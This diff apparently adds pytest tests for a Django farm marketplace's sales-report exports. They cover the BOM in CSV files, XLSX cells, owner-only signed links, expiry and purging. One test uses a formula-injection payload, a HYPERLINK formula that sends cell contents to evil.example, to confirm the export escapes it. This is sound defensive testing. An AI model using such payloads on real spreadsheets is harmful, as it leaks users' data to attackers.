@@ -1,0 +1,193 @@
+"""What a built report holds and how its owner gets it: the sales rows, CSV with a BOM, XLSX,
+formula injection escaped, the signed owner-only link, its expiry and the purge."""
+
+import csv
+import io
+from datetime import timedelta
+
+import pytest
+import time_machine
+from django.utils import timezone
+
+from reports.models import Report
+from reports.selectors import report_storage
+from reports.tasks import purge_expired_reports
+from tests.reports.conftest import read_file, stored_files, xlsx_rows
+
+pytestmark = pytest.mark.django_db
+
+
+def _period() -> dict:
+    today = timezone.localdate()
+    return {"period_start": (today - timedelta(days=30)).isoformat(),
+            "period_end": today.isoformat()}
+
+
+@pytest.fixture
+def built(django_capture_on_commit_callbacks):
+    """built(client, kind=..., format=...) -> the report after its task ran (as a worker would
+    run it, after the request's commit)."""
+
+    def build(client, *, fmt: str = "csv", kind: str = "sales", **period) -> dict:
+        with django_capture_on_commit_callbacks(execute=True):
+            response = client.post("/reports", {"kind": kind, "format": fmt,
+                                                **(period or _period())})
+        assert response.status_code == 202, response.content
+        return client.get(f"/reports/{response.json()['id']}").json()
+
+    return build
+
+
+def test_a_sales_report_in_csv_has_a_bom_a_header_and_one_row_per_line(make_farm, sell, built):
+    producer, farm_api, apples = make_farm()
+    _, _, other_farms_listing = make_farm()
+    first = sell(apples, 2)
+    second = sell(apples, 1)
+    sell(other_farms_listing, 5)  # another farm's sale is not in this farm's report
+
+    report = built(farm_api)
+
+    assert report["status"] == "done" and report["progress"] == 100
+    assert report["row_count"] == 2
+    assert report["download_url"].startswith("http://")
+    content = read_file(report, farm_api)
+    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Chinese
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    assert rows[0][:8] == ["付款时间", "订单号", "商品编号", "商品", "单位", "数量", "单价", "金额"]
+    assert [r[1] for r in rows[1:]] == [first.number, second.number]  # oldest payment first
+    line = rows[1]
+    assert line[3] == "红富士苹果 5斤装" and line[4] == "箱"
+    assert line[5:9] == ["2", "39.90", "79.80", "CNY"]
+    assert line[9:11] == ["已付款", "待发货"]
+    assert timezone.localtime(first.paid_at).strftime("%Y-%m-%d %H:%M:%S") == line[0]
+    # nothing about the buyer
+    text = content.decode("utf-8-sig")
+    assert "13800138000" not in text and "王小明" not in text and "文三路" not in text
+
+
+def test_only_lines_paid_within_the_period_are_in_it(make_farm, sell, built):
+    _, farm_api, apples = make_farm()
+    sell(apples, 1)
+    yesterday = timezone.localdate() - timedelta(days=1)
+
+    report = built(farm_api, period_start=(yesterday - timedelta(days=10)).isoformat(),
+                   period_end=yesterday.isoformat())
+
+    assert report["status"] == "done" and report["row_count"] == 0
+    rows = list(csv.reader(io.StringIO(read_file(report, farm_api).decode("utf-8-sig"))))
+    assert len(rows) == 1  # the header alone
+
+
+def test_a_sales_report_in_xlsx_opens_with_typed_cells(make_farm, sell, built):
+    _, farm_api, apples = make_farm()
+    order = sell(apples, 3)
+
+    report = built(farm_api, fmt="xlsx")
+
+    rows = xlsx_rows(read_file(report, farm_api))
+    assert rows[0][:4] == ("付款时间", "订单号", "商品编号", "商品")
+    line = rows[1]
+    assert line[1] == order.number and line[3] == "红富士苹果 5斤装"
+    assert line[5] == 3 and line[6] == pytest.approx(39.90) and line[7] == pytest.approx(119.70)
+    assert line[0] == timezone.localtime(order.paid_at).replace(tzinfo=None, microsecond=0)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_text_that_starts_a_formula_is_escaped(make_farm, sell, built, fmt, buyer):
+    title = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    _, farm_api, apples = make_farm(title=title)
+    order = sell(apples, 1)
+    shipment = order.shipments.get()
+    # the farm typed the carrier and tracking number themselves
+    response = farm_api.post(f"/shipments/{shipment.pk}/ship",
+                             {"carrier": "+顺丰", "tracking_number": "@SUM(1,2)"})
+    assert response.status_code == 200, response.content
+
+    report = built(farm_api, fmt=fmt)
+
+    content = read_file(report, farm_api)
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    else:
+        rows = xlsx_rows(content)
+    line = rows[1]
+    assert line[3] == "'" + title
+    assert line[11] == "'+顺丰"
+    assert line[12] == "'@SUM(1,2)"
+    # numbers stay numbers
+    assert str(line[7]).startswith("39.9")
+
+
+def test_the_link_is_for_the_owner_alone(make_farm, sell, built, api):
+    _, farm_api, apples = make_farm()
+    _, other_api, _ = make_farm()
+    sell(apples, 1)
+    report = built(farm_api)
+    path = "/" + report["download_url"].split("://", 1)[1].split("/", 1)[1]
+
+    assert api.get(path).status_code == 401  # the link alone opens nothing
+    response = other_api.get(path)
+    assert response.status_code == 404
+    assert response.json()["error"]["code"] == "report_not_found"
+    tampered = path[:-3] + ("AAA" if not path.endswith("AAA") else "BBB")
+    response = farm_api.get(tampered)
+    assert response.status_code == 404
+    assert response.json()["error"]["code"] == "report_not_found"
+    response = farm_api.get(path)
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Cache-Control"] == "private, no-store"
+    assert "attachment" in response["Content-Disposition"]
+    assert "filename*=utf-8''" in response["Content-Disposition"].lower()  # 销售明细_...csv
+
+
+def test_a_report_not_done_has_no_link_and_no_file(make_farm):
+    _, farm_api, _ = make_farm()
+    report = farm_api.post("/reports", {"kind": "sales", "format": "csv", **_period()}).json()
+
+    response = farm_api.get(f"/reports/{report['id']}/download?token=anything")
+
+    assert report["download_url"] is None
+    assert response.status_code == 409
+    assert response.json()["error"]["code"] == "report_not_ready"
+
+
+def test_the_link_expires_and_the_purge_deletes_the_file(make_farm, sell, built, settings):
+    settings.REPORT_TTL_HOURS = 2
+    _, farm_api, apples = make_farm()
+    sell(apples, 1)
+    report = built(farm_api)
+    path = "/" + report["download_url"].split("://", 1)[1].split("/", 1)[1]
+    assert len(stored_files()) == 1
+    assert purge_expired_reports() == 0  # nothing expired yet
+
+    with time_machine.travel(timezone.now() + timedelta(hours=2, seconds=1)):
+        response = farm_api.get(path)
+        assert response.status_code == 404
+        assert response.json()["error"]["code"] == "report_expired"
+        assert farm_api.get(f"/reports/{report['id']}").json()["download_url"] is None
+
+        assert purge_expired_reports() == 1
+        assert purge_expired_reports() == 0  # twice deletes nothing twice
+
+    assert stored_files() == []
+    stored = Report.objects.get(pk=report["id"])
+    assert stored.file_name == "" and stored.purged_at is not None
+    response = farm_api.get(path)
+    assert response.status_code == 404
+    assert response.json()["error"]["code"] == "report_expired"
+    body = farm_api.get(f"/reports/{report['id']}").json()
+    assert body["status"] == "done" and body["download_url"] is None
+
+
+def test_the_file_is_in_the_reports_storage_not_in_public_media(make_farm, sell, built,
+                                                                settings):
+    _, farm_api, apples = make_farm()
+    sell(apples, 1)
+
+    report = built(farm_api)
+
+    name = Report.objects.get(pk=report["id"]).file_name
+    assert report_storage().exists(name)
+    assert str(settings.MEDIA_ROOT) not in report_storage().path(name)
+    assert name not in report["download_url"]  # the link does not say where the file is
